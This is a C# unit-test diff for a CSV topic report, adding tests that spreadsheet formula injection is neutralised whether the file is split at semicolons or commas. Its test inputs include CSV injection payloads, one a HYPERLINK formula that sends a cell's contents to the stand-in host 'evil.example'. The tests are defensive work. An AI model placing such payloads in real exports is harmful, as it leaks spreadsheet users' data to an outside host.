@@ -41,9 +41,9 @@ public sealed class TopicReportTests
         T(6, 1, category: TopicCategory.Work, language: "uk", area: "hansa", status: TopicStatus.NotPursued),
     ];
 
-    private static List<string[]> ReadBack(byte[] csv)
+    private static List<string[]> ReadBack(byte[] csv, char? separator = null)
     {
-        using var reader = CsvReader.Create(csv, CsvReaderOptions.Default with { HasHeader = false });
+        using var reader = CsvReader.Create(csv, CsvReaderOptions.Default with { HasHeader = false, Separator = separator });
         var rows = new List<string[]>();
         while (reader.Read())
             rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
@@ -144,6 +144,46 @@ public sealed class TopicReportTests
         var row = ReadBack(csv)[1];
         Assert.All(new[] { row[9], row[10], row[13] }, field => Assert.Equal("'" + formula, field));
         Assert.DoesNotContain("," + formula, Encoding.UTF8.GetString(csv));
+    }
+
+    // Issue 19: German Excel splits a .csv it opens directly at ';'. Only the field's first character was escaped and a
+    // field with ';' was not quoted, so "ok;=1+1;" became a cell that was exactly =1+1.
+    [Theory]
+    [InlineData("ok;=1+1;")]
+    [InlineData("x;=HYPERLINK(ZEICHEN(104)&ZEICHEN(116)&\"tp://evil.example/?\"&A2);")]
+    [InlineData("Liste: Bänke, +Spielplatz; @Müll")]
+    [InlineData("a ; -1+2 ,  =SUMME(A1:A9)")]
+    public void Csv_read_with_either_separator_has_no_cell_that_starts_a_formula(string topic)
+    {
+        var topics = new[] { T(1, 3, text: topic) with { Response = topic, PublicWording = topic } };
+        foreach (var staff in new[] { BennBot.Content.Languages.German, BennBot.Content.Languages.English })
+        {
+            var csv = TopicReport.Csv(topics, staffLanguage: staff);
+            foreach (var separator in new[] { ';', ',' })
+            {
+                var rows = ReadBack(csv, separator);
+                Assert.All(rows.SelectMany(r => r), c => Assert.DoesNotMatch(@"^\s*[=+\-@]", c));
+                Assert.Equal(2, rows.Count); // header and the one topic: no line split into more rows
+            }
+            // With the file's own separator every field comes back whole, the texts defused but otherwise as written.
+            var row = ReadBack(csv, TopicCsv.SeparatorFor(staff))[1];
+            Assert.Equal(Header.Length, row.Length);
+            Assert.Equal(row[9], row[13]);
+            Assert.Equal(topic, row[9].Replace("'", ""));
+        }
+    }
+
+    [Fact]
+    public void Csv_for_german_staff_is_separated_by_semicolons_and_reads_back_whole()
+    {
+        const string topic = "Ampel; bitte =sicherer, -schneller";
+        var csv = TopicReport.Csv([T(1, 3, text: topic)], staffLanguage: BennBot.Content.Languages.German);
+
+        Assert.StartsWith(string.Join(';', Header) + "\r\n", Encoding.UTF8.GetString(csv, 3, csv.Length - 3));
+        var row = ReadBack(csv, ';')[1];
+        Assert.Equal(Header.Length, row.Length);
+        Assert.Equal("Ampel; bitte =sicherer, '-schneller", row[9]); // only a part's start is a formula start
+        Assert.Equal("Mehr Bänke am Weißen See", ReadBack(TopicReport.Csv([T(2, 3)], staffLanguage: BennBot.Content.Languages.German), ';')[1][9]);
     }
 
     [Fact]
